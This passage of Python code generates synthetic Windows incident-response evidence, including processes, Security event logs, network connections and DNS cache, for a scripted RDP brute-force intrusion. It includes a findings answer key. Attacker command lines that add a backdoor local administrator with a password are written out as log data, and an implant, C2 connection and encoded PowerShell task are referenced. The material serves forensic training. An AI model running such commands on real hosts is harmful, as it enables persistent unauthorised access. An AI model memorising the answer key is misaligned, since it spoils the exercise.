            "EntryType": "FailureAudit" if failure else "SuccessAudit",
            "Message": body.replace("\n", CRLF),
            "Source": "Microsoft-Windows-Eventlog" if eid == 1102 else "Microsoft-Windows-Security-Auditing",
            "ReplacementStrings": Arr(repl), "InstanceId": eid, "TimeGenerated": when, "TimeWritten": when,
            "UserName": None, "Site": None, "Container": None}


# -----------------------------------------------------------------------------
# 4b. Building one host
# -----------------------------------------------------------------------------

ERAS = {  # software versions by collection year (older collections get older builds)
    "old": {"os": "10.0.22621.1", "chrome": "110.0.5481.178", "onedrive": "23.038.0219.0001", "npp": "8.5",
            "chrome_created": "108.0.5359.125", "edge_created": "108.0.1462.54", "firefox": "110.0"},
    "new": {"os": "10.0.26100.1", "chrome": "140.0.7339.208", "onedrive": "25.164.0824.0003", "npp": "8.8.5",
            "chrome_created": "128.0.6613.120", "edge_created": "128.0.2739.54", "firefox": "139.0"},
}


def era(scn: "Scenario") -> dict:
    return ERAS["old" if scn.date.year <= 2023 else "new"]


def defender_platform(year: int) -> str:
    return {2022: "4.18.2207.7-0", 2023: "4.18.2302.7-0", 2024: "4.18.24090.11-0"}.get(year, "4.18.25080.5-0")


def build_scenario(host: str = "WS01", date: str | dt.date = "2025-10-02", family: str = "F6",
                   culture: str = "en-US", seed: int = 1, admin: bool = True, context: str | None = None,
                   rows_scale: float = 1.0, collect_time: str = "14:36:50", entra: bool | None = None) -> Scenario:
    if family not in FAMILIES:
        raise ValueError(f"family must be one of {FAMILIES}")
    if culture not in CULTURE_TABLE:
        raise ValueError(f"culture must be one of {CULTURES}")
    d = date if isinstance(date, dt.date) else dt.date.fromisoformat(date)
    h, m, s = (int(x) for x in collect_time.split(":"))
    if not (9 <= h < 20):
        raise ValueError("collect_time must lie between 09:00 and 19:59 (the timeline needs it)")
    context = context or ("system" if family == "F1" else "user")
    entra = (family != "F1") if entra is None else entra
    user, full = MAIN_USER[culture]
    scn = Scenario(host=host.upper(), date=d, family=family, culture=CULTURE_TABLE[culture], seed=seed,
                   admin=admin, context=context, rows_scale=rows_scale,
                   collect=dt.datetime.combine(d, dt.time(h, m, s)), user=user, user_full=full, entra=entra)
    _build_timeline(scn)
    _build_network(scn)
    _build_processes(scn)
    _build_security_events(scn)
    _build_findings(scn)
    return scn


def _build_timeline(scn: Scenario) -> None:
    at, t = scn.at, scn.t
    t["collect"] = scn.collect
    t["window_start"] = scn.collect - dt.timedelta(days=2)               # Get-EventLog -After (now - 2 days)
    t["log_clear"] = t["window_start"] + dt.timedelta(hours=1, minutes=28, seconds=21)
    t["burst_start"] = at(1, "01:56:03")
    t["nla_logon"] = at(1, "02:04:49")
    t["rdp_logon"] = at(1, "02:04:51")
    t["ps_start"] = at(1, "02:06:12")
    t["download1"] = at(1, "02:09:40")
    t["detection"] = at(1, "02:09:58")
    t["quarantine"] = at(1, "02:10:04")
    t["user_created"] = at(1, "02:13:45")
    t["group_add"] = at(1, "02:14:02")
    t["exclusion"] = at(1, "02:15:31")
    t["download2"] = at(1, "02:16:40")
    t["implant_start"] = at(1, "02:17:05")
    t["c2_conn"] = at(1, "02:17:09")
    t["task_registered"] = at(1, "02:18:44")
    t["task_started"] = at(1, "02:19:03")
    t["rdp_disconnect"] = at(1, "02:21:15")
    t["user_logon"] = at(0, "08:12:33")
    t["dfir_console"] = scn.collect - dt.timedelta(minutes=6, seconds=2)
    t["dfir_start"] = scn.collect - dt.timedelta(seconds=38)
    day = day_gt12_before(scn.date, 3)
    t["invoice_download"] = dt.datetime.combine(day, dt.time(14, 22, 10))
    t["invoice_run"] = dt.datetime.combine(day, dt.time(14, 23, 2))
    t["mplog_start"] = dt.datetime.combine(day_gt12_before(scn.date, 14), dt.time(8, 12, 33))
    t["shadow_old"] = dt.datetime.combine(day_gt12_before(scn.date, 12), dt.time(3, 0, 12))
    t["shadow_new"] = dt.datetime.combine(day_gt12_before(scn.date, 5), dt.time(3, 0, 14))
    t["helpdesk_created"] = dt.datetime.combine(day_gt12_before(scn.date, 160), dt.time(9, 22, 10))
    t["os_install"] = dt.datetime.combine(day_gt12_before(scn.date, 420), dt.time(11, 47, 31))
    t["boot"] = at(2, "07:58:12")


def _build_network(scn: Scenario) -> None:
    rng = scn.rng("network")
    third = rng.choice([1, 10, 50, 178])
    scn.t["ip"] = f"192.168.{third}.{rng.randint(20, 99)}"
    scn.t["gateway"] = f"192.168.{third}.1"
    scn.t["mac"] = "3C-52-82-" + "-".join(f"{rng.randrange(256):02X}" for _ in range(3))
    scn.t["ll6"] = "fe80::" + ":".join(f"{rng.randrange(1, 65536):x}" for _ in range(4)) + "%12"
    scn.t["tmp6"] = "2001:db8:4f1c:7a00:" + ":".join(f"{rng.randrange(1, 65536):x}" for _ in range(4))


def _exe(name: str) -> str:
    return "C:\\Windows\\System32\\" + name


PS_EXE = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
CHROME_EXE = r"C:\Program Files\Google\Chrome\Application\chrome.exe"


def _build_processes(scn: Scenario) -> None:
    """Win32_Process / Get-Process view of the host at collection time."""
    rng = scn.rng("processes")
    u, t = scn.user, scn.t
    home = f"C:\\Users\\{u}"
    ver = era(scn)
    epoch_ticks = prtime(scn.utc(t["boot"]))
    seed_day = (scn.date - dt.timedelta(days=2)).strftime("%Y%m%d")
    mp = f"C:\\ProgramData\\Microsoft\\Windows Defender\\platform\\{defender_platform(scn.date.year)}"
    boot = t["boot"]
    P = Proc
    procs = [
        P("System Idle Process", 0, 0, None, None, priority=None, cpu=None, company=None, version=None),
        P("System", 4, 0, None, None, priority=None, cpu=None, company=None, version=None),
        P("Registry", 108, 4, None, None, priority=None, cpu=None, company=None, version=None),
        P("smss.exe", 412, 4, _exe("smss.exe"), r"\SystemRoot\System32\smss.exe", priority="High"),
        P("csrss.exe", 560, 548, None, None, priority=None, cpu=None, company=None, version=None),
        P("wininit.exe", 652, 548, _exe("wininit.exe"), "wininit.exe", priority="High"),
        P("csrss.exe", 668, 644, None, None, session=1, priority=None, cpu=None, company=None, version=None),
        P("services.exe", 744, 652, _exe("services.exe"), r"C:\Windows\system32\services.exe"),
        P("lsass.exe", 764, 652, _exe("lsass.exe"), r"C:\Windows\system32\lsass.exe"),
        P("winlogon.exe", 760, 644, _exe("winlogon.exe"), "winlogon.exe", session=1, priority="High"),
        P("svchost.exe", 880, 744, _exe("svchost.exe"), r"C:\Windows\system32\svchost.exe -k DcomLaunch -p"),
        P("fontdrvhost.exe", 904, 652, _exe("fontdrvhost.exe"), '"fontdrvhost.exe"', user="UMFD-0"),
        P("svchost.exe", 1000, 744, _exe("svchost.exe"), r"C:\Windows\system32\svchost.exe -k RPCSS -p",
          user="NETWORK SERVICE"),
        P("dwm.exe", 1088, 760, _exe("dwm.exe"), '"dwm.exe"', session=1, user="DWM-1", priority="High"),
        P("svchost.exe", 1212, 744, _exe("svchost.exe"),
          r"C:\Windows\System32\svchost.exe -k LocalServiceNetworkRestricted -p -s EventLog", user="LOCAL SERVICE"),
        P("svchost.exe", 1452, 744, _exe("svchost.exe"), r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule"),
        P("Memory Compression", 1780, 4, None, None, priority=None, cpu=None, company=None, version=None),
        P("svchost.exe", 1960, 744, _exe("svchost.exe"),
          r"C:\Windows\system32\svchost.exe -k NetworkService -p -s Dnscache", user="NETWORK SERVICE"),
        P("spoolsv.exe", 2264, 744, _exe("spoolsv.exe"), r"C:\Windows\System32\spoolsv.exe"),
        P("svchost.exe", 2412, 744, _exe("svchost.exe"),
          r"C:\Windows\System32\svchost.exe -k NetworkService -s TermService", user="NETWORK SERVICE"),
        P("MsMpEng.exe", 3012, 744, mp + r"\MsMpEng.exe", f'"{mp}\\MsMpEng.exe"'),
        P("NisSrv.exe", 3788, 744, mp + r"\NisSrv.exe", f'"{mp}\\NisSrv.exe"', user="LOCAL SERVICE"),
        P("SecurityHealthService.exe", 4120, 744, _exe("SecurityHealthService.exe"),
          r"C:\Windows\system32\SecurityHealthService.exe"),
        P("WmiPrvSE.exe", 3944, 880, _exe("wbem\\WmiPrvSE.exe"), r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding",
          user="NETWORK SERVICE"),
        # the brute-forced RDP session (disconnected, session 2)
        P("csrss.exe", 4012, 3996, None, None, session=2, priority=None, cpu=None, company=None, version=None),
        P("winlogon.exe", 4060, 3996, _exe("winlogon.exe"), "winlogon.exe", session=2, priority="High"),
        P("rdpclip.exe", 4400, 2412, _exe("rdpclip.exe"), "rdpclip", session=2, user=BRUTE_USER),
        P("explorer.exe", 4388, 4360, r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE", session=2,
          user=BRUTE_USER, start=t["rdp_logon"] + dt.timedelta(seconds=9)),
        P("RuntimeBroker.exe", 6640, 7412, IMPLANT_PATH, f'"{IMPLANT_PATH}"', session=2, user=BRUTE_USER,
          company=None, description=None, version=None, start=t["implant_start"]),
        P("powershell.exe", 7312, 1452, PS_EXE, ENC_PROCESS_CMDLINE, start=t["task_started"],
          description="Windows PowerShell"),
        P("conhost.exe", 7320, 7312, _exe("conhost.exe"), r"\??\C:\Windows\system32\conhost.exe 0x4",
          start=t["task_started"]),
    ]
    # the main user's console session (session 1), present in both run contexts
    us = t["user_logon"]
    procs += [
        P("sihost.exe", 5008, 1452, _exe("sihost.exe"), "sihost.exe", session=1, user=u, start=us),
        P("explorer.exe", 5120, 5088, r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE", session=1,
          user=u, start=us + dt.timedelta(seconds=6)),
        P("SecurityHealthSystray.exe", 6012, 5120, _exe("SecurityHealthSystray.exe"),
          r'"C:\Windows\System32\SecurityHealthSystray.exe"', session=1, user=u),
        P(TEMP_IMPLANT_NAME, 5844, 5120, f"{home}\\AppData\\Local\\Temp\\{TEMP_IMPLANT_NAME}",
          f'"{home}\\AppData\\Local\\Temp\\{TEMP_IMPLANT_NAME}" /silent', session=1, user=u, company=None,
          description=None, version=None, start=us + dt.timedelta(seconds=14)),
        P("OneDrive.exe", 6120, 5120, f"{home}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe",
          f'"{home}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background', session=1, user=u,
          version=ver["onedrive"]),
        P("chrome.exe", 8224, 5120, CHROME_EXE, f'"{CHROME_EXE}"', session=1, user=u, company="Google LLC",
          version=ver["chrome"], description="Google Chrome"),
        P("chrome.exe", 8260, 8224, CHROME_EXE,
          f'"{CHROME_EXE}" --type=crashpad-handler "--user-data-dir={home}\\AppData\\Local\\Google\\Chrome\\User Data" '
          '/prefetch:4 --monitor-self-annotation=ptype=crashpad-handler "--database='
          f'{home}\\AppData\\Local\\Google\\Chrome\\User Data\\Crashpad" --url=https://clients2.google.com/cr/report '
          f'--annotation=channel= --annotation=plat=Win64 --annotation=prod=Chrome --annotation=ver={ver["chrome"]}',
          session=1, user=u, company="Google LLC", version=ver["chrome"]),
        P("chrome.exe", 8412, 8224, CHROME_EXE,
          f'"{CHROME_EXE}" --type=renderer --string-annotations=is-enterprise-managed=no --lang={scn.culture.name} '
          '--device-scale-factor=1 --num-raster-threads=4 --enable-main-frame-before-activation '
          f'--renderer-client-id=7 --time-ticks-at-unix-epoch=-{epoch_ticks} --launch-time-ticks=2087771540 '
          '--field-trial-handle=2012,i,7301184521843657221,11430187422915523816,262144 '
          f'--variations-seed-version={seed_day}-180038.792000 --mojo-platform-channel-handle=3788 /prefetch:9',
          session=1, user=u, company="Google LLC", version=ver["chrome"]),
        P("notepad++.exe", 8840, 5120, r"C:\Program Files\Notepad++\notepad++.exe",
          f'"C:\\Program Files\\Notepad++\\notepad++.exe" "{home}\\Documents\\Café menu.txt"', session=1,
          user=u, company="Don HO don.h@free.fr", version=ver["npp"]),
    ]
    if scn.context == "user":
        procs += [
            P("powershell.exe", 9120, 5120, PS_EXE, f'"{PS_EXE}"', session=1, user=u, start=t["dfir_console"],
              description="Windows PowerShell"),
            P("conhost.exe", 9132, 9120, _exe("conhost.exe"), r"\??\C:\Windows\system32\conhost.exe 0x4",
              session=1, user=u),
            P("powershell.exe", 9376, 9120, PS_EXE, f'"{PS_EXE}" -ExecutionPolicy Bypass .\\DFIR-Script.ps1',
              session=1, user=u, start=t["dfir_start"], description="Windows PowerShell"),
        ]
    else:
        sense = r"C:\Program Files\Windows Defender Advanced Threat Protection"
        procs += [
            P("MsSense.exe", 3330, 744, sense + r"\MsSense.exe", f'"{sense}\\MsSense.exe"'),
            P("SenseIR.exe", 9020, 3330, sense + r"\SenseIR.exe",
              f'"{sense}\\SenseIR.exe" "OnlineSenseIR" "{fake_guid(rng)}"'),
            P("powershell.exe", 9376, 9020, PS_EXE,
              f'"{PS_EXE}" -ExecutionPolicy Bypass -NoProfile -NonInteractive -File '
              r'"C:\ProgramData\Microsoft\Windows Defender Advanced Threat Protection\Downloads\DFIR-Script.ps1"',
              start=t["dfir_start"], description="Windows PowerShell"),
            P("conhost.exe", 9384, 9376, _exe("conhost.exe"), r"\??\C:\Windows\system32\conhost.exe 0x4"),
        ]
    if scn.rows_scale < 1:          # small collections keep the story and a sample of the background
        essential = {0, 4, 412, 560, 652, 744, 764, 760, 1212, 1452, 3012, 4388, 6640, 7312, 7320, 5120, 5844,
                     6120, 8224, 8840, 9120, 9376, 9020, 3330}
        background = [p.pid for p in procs if p.pid not in essential]
        keep = set(rng.sample(background, max(3, round(len(background) * scn.rows_scale))))
        procs = [p for p in procs if p.pid in essential or p.pid in keep]
    for p in procs:
        p.handles = rng.randint(80, 2400) if p.pid else 0
        p.ws_kb = rng.randint(900, 260000)
        p.pm_kb = rng.randint(200, p.ws_kb)
        p.npm_kb = rng.randint(3, 90)
        p.threads = rng.randint(1, 60)
        if p.cpu is not None:
            p.cpu = round(rng.uniform(0.01, 950.0), 6)
        if p.start is None and p.path:
            p.start = boot + dt.timedelta(seconds=rng.randint(3, 90) if p.session != 1 else 0)
            if p.session == 1:
                p.start = t["user_logon"] + dt.timedelta(seconds=rng.randint(5, 400))
        if p.version is None and p.company == "Microsoft Corporation":
            p.version = ver["os"]
        if p.path and p.description is None and p.company:
            p.description = p.name.rsplit(".", 1)[0]
        # Get-FileHash fails on the Defender platform folder (access denied) -> no hash
        p.hash = None if (p.path is None or "Windows Defender\\platform" in p.path) else fake_sha256(p.path)
    scn.procs = procs


def _build_security_events(scn: Scenario) -> None:
    t, rng = scn.t, scn.rng("security")
    evs: list[dict] = []
    host = scn.host
    user_acct = (scn.user_sid, scn.user, "AzureAD" if scn.entra else host, "0x2f4a1b9")
    helpdesk = (scn.sid(1002), BRUTE_USER, host, "0x5c1d2e")
    ev = lambda when, eid, built, failure=False: evs.append(sec_event(scn, when, eid, built, failure))
    services_proc = ("0x2e8", r"C:\Windows\System32\services.exe")
    # 1102: the log was cleared before the intrusion started
    ev(t["log_clear"], 1102, msg_1102((scn.user_sid, scn.user, "AzureAD" if scn.entra else host, "0x1b7e4a2")))
    # background noise: service logons (type 5) with their 4672
    when, step = t["log_clear"] + dt.timedelta(minutes=3), 35 / max(scn.rows_scale, 0.01)
    while when < t["collect"] - dt.timedelta(minutes=2):
        ev(when, 4624, msg_4624(SYSTEM_ACCT, SYSTEM_ACCT, 5, services_proc, ("-", "-", "-"),
                                ("Advapi  ", "Negotiate", "-", 0), True))
        ev(when, 4672, msg_4672(SYSTEM_ACCT, SYSTEM_PRIVS))
        when += dt.timedelta(minutes=rng.uniform(0.4, 1.6) * step, seconds=rng.randint(0, 59))
    # the password-guessing burst (RDP/NLA, NTLM, logon type 3)
    n = scn.scaled(48, minimum=10)
    targets = [("administrator", "0xc000006a"), ("admin", "0xc0000064"), (BRUTE_USER, "0xc000006a"),
               ("scanner", "0xc0000064"), ("user", "0xc0000064"), ("test", "0xc0000064"),
               ("backup", "0xc0000064"), ("support", "0xc0000064")]
    when = t["burst_start"]
    for i in range(n):
        name, status = targets[i % len(targets)]
        ev(when, 4625, msg_4625(name, status, BRUTE_IP, BRUTE_WORKSTATION), failure=True)
        t["burst_end"] = when
        when += dt.timedelta(seconds=rng.randint(5, 11))
    t["burst_count"] = n
    # successful RDP logon of the guessed account
    ntlm = ("NtLmSsp ", "NTLM", "NTLM V2", 128)
    nla = (scn.sid(1002), BRUTE_USER, host, "0x5c1a77")
    ev(t["nla_logon"], 4624, msg_4624(("S-1-0-0", "-", "-", "0x0"), nla, 3, ("0x0", "-"),
                                      (BRUTE_WORKSTATION, BRUTE_IP, "0"), ntlm, True))
    ev(t["nla_logon"], 4672, msg_4672(nla, ADMIN_PRIVS))
    ev(t["nla_logon"] + dt.timedelta(seconds=1), 4634, msg_4634(nla, 3))
    ev(t["rdp_logon"], 4624, msg_4624((f"S-1-5-18", f"{host}$", "WORKGROUP", "0x3e7"), helpdesk, 10,
                                      ("0x1a4c", r"C:\Windows\System32\svchost.exe"),
                                      (host, BRUTE_IP, "0"), ("User32 ", "Negotiate", "-", 0), True, "0x5c1d0b"))
    ev(t["rdp_logon"], 4672, msg_4672(helpdesk, ADMIN_PRIVS))
    hi = "S-1-16-12288"
    ev(t["ps_start"], 4688, msg_4688(helpdesk, 7412, PS_EXE, "%%1937", hi, 4388, r"C:\Windows\explorer.exe",
                                     f'"{PS_EXE}" '))
    ev(t["user_created"], 4688, msg_4688(helpdesk, 7788, _exe("net.exe"), "%%1937", hi, 7412, PS_EXE,
                                         f'"C:\\Windows\\system32\\net.exe" user {NEW_ADMIN} Winter2025!x /add'))
    new = (scn.sid(1003), NEW_ADMIN, host)
    ev(t["user_created"], 4720, msg_4720(helpdesk, new))
    ev(t["user_created"], 4722, msg_account(4722, helpdesk, new))
    ev(t["user_created"], 4724, msg_account(4724, helpdesk, new))
    ev(t["group_add"], 4688, msg_4688(helpdesk, 7804, _exe("net.exe"), "%%1937", hi, 7412, PS_EXE,
                                      f'"C:\\Windows\\system32\\net.exe" localgroup administrators {NEW_ADMIN} /add'))
    ev(t["group_add"], 4732, msg_4732(helpdesk, scn.sid(1003)))
    ev(t["implant_start"], 4688, msg_4688(helpdesk, 6640, IMPLANT_PATH, "%%1937", hi, 7412, PS_EXE,
                                          f'"{IMPLANT_PATH}" '))
    ev(t["task_started"], 4688, msg_4688(SYSTEM_ACCT, 7312, PS_EXE, "%%1936", "S-1-16-16384", 1452,
                                         _exe("svchost.exe"), ENC_PROCESS_CMDLINE))
    # the main user's logon on the collection day
    ev(t["user_logon"], 4624, msg_4624((f"S-1-5-18", f"{host}$", "WORKGROUP", "0x3e7"), user_acct, 2,
                                       ("0x2f8", _exe("winlogon.exe")), (host, "127.0.0.1", "0"),
                                       ("User32 ", "Negotiate", "-", 0), True, "0x2f4a16c"))
    ev(t["user_logon"], 4672, msg_4672(user_acct, ADMIN_PRIVS))
    for k, target in enumerate([(scn.sid(500), "Administrator", host), (scn.sid(1002), BRUTE_USER, host)]):
        ev(t["user_logon"] + dt.timedelta(seconds=8 + k), 4798,
           msg_account(4798, user_acct, target, (5120, r"C:\Windows\explorer.exe")))
    ev(t["user_logon"] + dt.timedelta(seconds=29), 5379, msg_5379(user_acct, "MicrosoftAccount:target=SSO_POP_Device"))
    if scn.context == "user":
        ev(t["dfir_console"], 4688, msg_4688(user_acct, 9120, PS_EXE, "%%1937", hi, 5120,
                                             r"C:\Windows\explorer.exe", f'"{PS_EXE}" '))
        ev(t["dfir_start"], 4688, msg_4688(user_acct, 9376, PS_EXE, "%%1937", hi, 9120, PS_EXE,
                                           f'"{PS_EXE}" -ExecutionPolicy Bypass .\\DFIR-Script.ps1'))
    else:
        sense = r"C:\Program Files\Windows Defender Advanced Threat Protection\SenseIR.exe"
        ev(t["dfir_start"], 4688, msg_4688(SYSTEM_ACCT, 9376, PS_EXE, "%%1936", "S-1-16-16384", 9020, sense,
                                           next(p.cmd for p in scn.procs if p.pid == 9376)))
    evs.sort(key=lambda e: e["TimeGenerated"])      # stable: keeps the order within one second
    for i, e in enumerate(evs, start=1):
        e["Index"] = i
    scn.events = [e for e in evs if t["window_start"] < e["TimeGenerated"] <= t["collect"]]


def _fmt_offset(off: dt.timedelta) -> str:
    minutes = int(off.total_seconds()) // 60
    return f"{'+' if minutes >= 0 else '-'}{abs(minutes) // 60:02d}:{abs(minutes) % 60:02d}"


def _build_findings(scn: Scenario) -> None:
    t, fmt = scn.t, scn.culture.g
    scn.findings = {
        "host": scn.host, "collection_folder": scn.folder_name, "family": scn.family, "culture": scn.culture.name,
        "run_context": scn.context, "main_user": scn.user_account, "main_user_sid": scn.user_sid,
        "host_ip": t["ip"], "utc_offset_at_collection": _fmt_offset(utc_offset(scn.culture.tz, scn.collect)),
        "collection_start_local": scn.collect.isoformat(sep=" "),
        "failed_logon_burst": {"event_id": 4625, "count": t["burst_count"], "source_ip": BRUTE_IP,
                               "workstation": BRUTE_WORKSTATION, "first": t["burst_start"].isoformat(sep=" "),
                               "last": t["burst_end"].isoformat(sep=" ")},
        "brute_forced_account": {"name": BRUTE_USER, "sid": scn.sid(1002), "rdp_logon": t["rdp_logon"].isoformat(sep=" ")},
        "new_local_admin": {"name": NEW_ADMIN, "sid": scn.sid(1003), "created_4720": t["user_created"].isoformat(sep=" "),
                            "added_to_administrators_4732": t["group_add"].isoformat(sep=" "),
                            "created_as_rendered": fmt(t["user_created"])},
        "security_log_cleared_1102": t["log_clear"].isoformat(sep=" "),
        "run_key": {"key": r"HKLM\SOFTWARE\WOW6432Node\Microsoft\Windows\CurrentVersion\Run",
                    "value": RUN_VALUE_NAME, "data": _run_values(scn)[1][1]},
        "runonce_value_lost_in_csv": {"value": RUNONCE_VALUE_NAME, "data": _runonce_values(scn)[0][1]},
        "scheduled_task": {"uri": TASK_PATH + TASK_NAME, "description": ENC_COMMAND,
                           "registered": t["task_registered"].isoformat(sep=" "),
                           "decoded": ENC_SCRIPT},
        "encoded_powershell_process": {"pid": 7312, "ppid": 1452, "command_line": ENC_PROCESS_CMDLINE},
        "implant_process": {"pid": 6640, "path": IMPLANT_PATH, "sha256": fake_sha256(IMPLANT_PATH),
                            "started": t["implant_start"].isoformat(sep=" ")},
        "temp_process": {"pid": 5844, "path": f"C:\\Users\\{scn.user}\\AppData\\Local\\Temp\\{TEMP_IMPLANT_NAME}",
                         "sha256": fake_sha256(f"C:\\Users\\{scn.user}\\AppData\\Local\\Temp\\{TEMP_IMPLANT_NAME}")},
        "c2_connection": {"local": f"{t['ip']}:49822", "remote": f"{C2_IP}:443", "pid": 6640,
                          "created": t["c2_conn"].isoformat(sep=" ")},
        "dns_odd_domain": {"name": C2_DOMAIN, "type": 1, "data": C2_IP},
        "defender_exclusion_path": DEFENDER_EXCLUSION,
        "defender_detection": {"threat": THREAT_NAME, "file": IMPLANT_PATH,
                               "utc": scn.utc(t["detection"]).isoformat(sep=" ")},
        "psreadline_download_cradle": {"file": f"PowerShellHistory\\{BRUTE_USER}.Name\\ConsoleHost_history.txt",
                                       "line": IWR_CRADLE},
        "browser_download": {"url": DOWNLOAD_URL.format(date=t["invoice_download"].date().isoformat()),
                             "target": f"C:\\Users\\{scn.user}\\Downloads\\Invoice_{t['invoice_download'].date().isoformat()}.pdf.exe",
                             "local": t["invoice_download"].isoformat(sep=" "),
                             "utc": scn.utc(t["invoice_download"]).isoformat(sep=" ")},
    }


# -----------------------------------------------------------------------------
# 4c. Tables of one host (PowerShell property order = CSV column order)
# -----------------------------------------------------------------------------

CIM = {"CimInstanceProperties": "Microsoft.Management.Infrastructure.Internal.Data.CimPropertiesCollection",
       "CimSystemProperties": "Microsoft.Management.Infrastructure.CimSystemProperties"}


def _cim_tail(cim_class: str) -> dict:
    return {"PSComputerName": None, "CimClass": cim_class, **CIM}


def ip_addresses(scn: Scenario) -> list[dict]:
    """Get-NetIPAddress (§6.1; column order [I]).  IPv4 is static (no DHCP lease, whose
    expiry would lie after the collection); IPv6 has a temporary SLAAC address."""
    t = scn.t
    rows = [  # (address, ifindex, alias, family, prefixlen, prefix origin, suffix origin, valid, preferred)
        (t["ll6"], 12, "Ethernet", "IPv6", 64, "WellKnown", "Link", INFINITE, INFINITE),
        (t["tmp6"], 12, "Ethernet", "IPv6", 128, "RouterAdvertisement", "Random",
         TimeSpan.seconds(6 * 86400 + 73449), TimeSpan.seconds(73449)),
        ("::1", 1, "Loopback Pseudo-Interface 1", "IPv6", 128, "WellKnown", "WellKnown", INFINITE, INFINITE),
        (t["ip"], 12, "Ethernet", "IPv4", 24, "Manual", "Manual", INFINITE, INFINITE),
        ("127.0.0.1", 1, "Loopback Pseudo-Interface 1", "IPv4", 8, "WellKnown", "WellKnown", INFINITE, INFINITE),
    ]
    out = []
    for addr, idx, alias, fam, plen, po, so, valid, pref in rows:
        inst = ";" + "".join(chr(0x38 + (ord(c) % 8)) for c in addr[:10]) + f";{idx};;"
        out.append({
            "PrefixOrigin": po, "SuffixOrigin": so, "Type": "Unicast", "Store": "ActiveStore", "AddressFamily": fam,
            "AddressState": "Preferred", "ifIndex": idx, "Caption": None, "Description": None, "ElementName": None,
            "InstanceID": inst, "CommunicationStatus": None, "DetailedStatus": None, "HealthState": None,
            "InstallDate": None, "Name": inst, "OperatingStatus": None, "OperationalStatus": None,
            "PrimaryStatus": None, "Status": None, "StatusDescriptions": None, "AvailableRequestedStates": None,
            "EnabledDefault": 2, "EnabledState": None, "OtherEnabledState": None, "RequestedState": 12,
            "TimeOfLastStateChange": None, "TransitioningToState": 12, "CreationClassName": "",
            "NameFormat": None, "OtherTypeDescription": None, "ProtocolIFType": 4096 if fam == "IPv4" else 4097,
            "ProtocolType": None, "SystemCreationClassName": "", "SystemName": "", "Address": None,
            "AddressOrigin": 0, "AddressType": 1, "IPv4Address": addr if fam == "IPv4" else None,
            "IPv6Address": addr if fam == "IPv6" else None, "PrefixLength": plen, "SubnetMask": None,
            "InterfaceAlias": alias, "InterfaceIndex": idx, "IPAddress": addr, "PreferredLifetime": pref,
            "SkipAsSource": False, "ValidLifetime": valid, **_cim_tail("ROOT/StandardCimv2:MSFT_NetIPAddress")})
    return out


def tcp_connections(scn: Scenario) -> list[dict]:
    """Get-NetTCPConnection -State Established (§6.3)."""
    t, ip = scn.t, scn.t["ip"]
    conns = [
        (ip, 49822, C2_IP, 443, 6640, t["c2_conn"], "Internet"),
        (ip, 50144, "20.42.73.29", 443, 1212, t["user_logon"] + dt.timedelta(seconds=68), "Internet"),
        (ip, 50209, "52.113.194.132", 443, 6120, t["user_logon"] + dt.timedelta(minutes=1, seconds=29), "Internet"),
        (ip, 50877, "142.250.80.36", 443, 8224, scn.collect - dt.timedelta(minutes=41, seconds=48), "Internet"),
        ("127.0.0.1", 49691, "127.0.0.1", 49692, 8224, t["user_logon"] + dt.timedelta(minutes=3, seconds=2), None),
        ("127.0.0.1", 49692, "127.0.0.1", 49691, 8224, t["user_logon"] + dt.timedelta(minutes=3, seconds=2), None),
    ]
    out = []
    for la, lp, ra, rp, pid, created, applied in sorted(conns, key=lambda c: (c[0], c[1])):
        out.append({
            "Caption": None, "Description": None, "ElementName": None, "InstanceID": f"{la}++{lp}++{ra}++{rp}",
            "CommunicationStatus": None, "DetailedStatus": None, "HealthState": None, "InstallDate": None,
            "Name": None, "OperatingStatus": None, "OperationalStatus": None, "PrimaryStatus": None, "Status": None,
            "StatusDescriptions": None, "AvailableRequestedStates": None, "EnabledDefault": 2, "EnabledState": None,
            "OtherEnabledState": None, "RequestedState": 5, "TimeOfLastStateChange": None,
            "TransitioningToState": 12, "AggregationBehavior": None, "Directionality": None,
            "CreationTime": created, "LocalAddress": la, "LocalPort": lp, "OwningProcess": pid,
            "AppliedSetting": applied, "OffloadState": "InHost", "RemoteAddress": ra, "RemotePort": rp,
            "State": "Established", **_cim_tail("ROOT/StandardCimv2:MSFT_NetTCPConnection")})
    return out


def dns_entries(scn: Scenario) -> list[dict]:
    """Get-DnsClientCache (§6.10; Kansa column order). Type/Status/Section stay numeric."""
    rows = [  # entry, name, type, status, section, ttl, length, data
        ("login.microsoftonline.com", "login.microsoftonline.com", 5, 0, 1, 41, 8, "login.mso.msidentity.com"),
        ("login.microsoftonline.com", "login.mso.msidentity.com", 5, 0, 1, 41, 8, "ak.privatelink.msidentity.com"),
        ("login.microsoftonline.com", "www.tm.ak.prd.aadg.trafficmanager.net", 1, 0, 1, 41, 4, "20.190.159.2"),
        (C2_DOMAIN, C2_DOMAIN, 1, 0, 1, 287, 4, C2_IP),
        ("www.google.com", "www.google.com", 1, 0, 1, 217, 4, "142.250.80.36"),
        ("www.google.com", "www.google.com", 28, 0, 1, 217, 16, "2607:f8b0:4006:81f::2004"),
        ("wpad", None, 1, 9003, None, 1174, 0, None),
        ("settings-win.data.microsoft.com", "settings-win.data.microsoft.com", 5, 0, 1, 2711, 8,
         "atm-settingsfe-prod-geo2.trafficmanager.net"),
        ("settings-win.data.microsoft.com", "settings-prod-eus2-2.eastus2.cloudapp.azure.com", 1, 0, 1, 2711, 4,
         "20.42.73.29"),
        ("oneclient.sfx.ms", "oneclient.sfx.ms", 1, 0, 1, 3008, 4, "52.113.194.132"),
        ("fileserver01", None, 28, 9501, None, 214, 0, None),
        ("23.1.168.192.in-addr.arpa", "23.1.168.192.in-addr.arpa", 12, 0, 1, 86400, 8, scn.host.lower()),
    ]
    out = []
    for entry, name, typ, status, section, ttl, length, data in rows:
        out.append({"TimeToLive": ttl, "Caption": None, "Description": None, "ElementName": None,
                    "InstanceId": None, "Data": data, "DataLength": length, "Entry": entry, "Name": name,
                    "Section": section, "Status": status, "Type": typ,
                    **_cim_tail("ROOT/StandardCimv2:MSFT_DNSClientCache")})
    return out


DNS_TYPE = {1: "A", 5: "CNAME", 12: "PTR", 28: "AAAA", 33: "SRV"}
DNS_STATUS = {0: "Success", 9003: "NotExist", 9501: "NoRecords"}
